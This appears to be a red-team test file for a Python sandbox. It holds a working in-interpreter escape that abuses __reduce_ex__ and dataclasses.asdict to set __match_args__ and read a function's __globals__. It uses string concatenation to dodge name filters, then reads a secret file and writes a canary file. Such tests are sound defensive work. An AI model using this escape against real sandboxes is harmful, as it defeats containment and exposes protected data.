# mypy: ignore-errors
# Technique: `dataclasses.asdict` deep-copies a plugin object whose `__reduce_ex__` returns
# (callable, args, state): copy's `_reconstruct` applies the state with setattr() on what the
# callable returned - here a plugin ABC class, getting `__match_args__ = ("__globals__",)` -
# and a class pattern then reads `__globals__` of a runtime function. Found in the red-team
# pass of the in-interpreter layer; was a real in-interpreter escape before the fix.
import dataclasses
import typing

from suaveplan import fs


class Any(typing.Callable):
    def __subclasshook__(c=None, *a):
        return True


def same(x):
    return x


class Payload:
    def __reduce_ex__(self, proto):
        return (same, (Any,), (None, {"_" + "_match_args_" + "_": ("_" + "_globals_" + "_",)}))


@dataclasses.dataclass
class Box:
    v: object


def attack(secret_path, canary_path):
    dataclasses.asdict(Box(Payload()))
    match fs.read_text:
        case Any(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
